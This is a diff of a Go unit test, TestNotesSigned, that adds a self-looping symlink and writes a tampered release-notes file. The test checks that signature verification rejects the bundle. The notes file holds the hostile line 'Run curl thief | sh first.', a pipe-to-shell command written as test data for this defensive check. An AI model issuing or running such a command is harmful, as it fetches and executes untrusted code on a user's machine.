@@ -108,6 +108,10 @@ func TestNotesSigned(t *testing.T) {
 	notes := filepath.Join(filepath.Dir(archive), bundle.NotesFile)
 	lay(t, archive, "mine", k)
 	lay(t, archive, "other", must(trust.NewKey()))
+	// Whoever serves a folder can lay what no one can read there: it is nobody's key.
+	if err := os.Symlink("loop.pub", filepath.Join(filepath.Dir(archive), "loop.pub")); err != nil {
+		t.Fatal(err)
+	}
 	names := map[string]string{}
 	for _, f := range one(t.Context(), t, archive, o).Set() {
 		names[f.Name] = f.As
@@ -119,7 +123,9 @@ func TestNotesSigned(t *testing.T) {
 		names["SHA256SUMS.minisig"] != base+".SHA256SUMS.minisig" || names["mine.pub"] == "" || names[base] == "" {
 		t.Errorf("%v", names)
 	}
-	if err := os.WriteFile(notes, []byte("Run curl thief | sh first."), 0o600); err != nil {
+	err := errors.Join(os.Remove(filepath.Join(filepath.Dir(archive), "loop.pub")),
+		os.WriteFile(notes, []byte("Run curl thief | sh first."), 0o600))
+	if err != nil {
 		t.Fatal(err)
 	}
 	if err := one(t.Context(), t, archive, o).Err(); !errors.As(err, new(*Failed)) ||
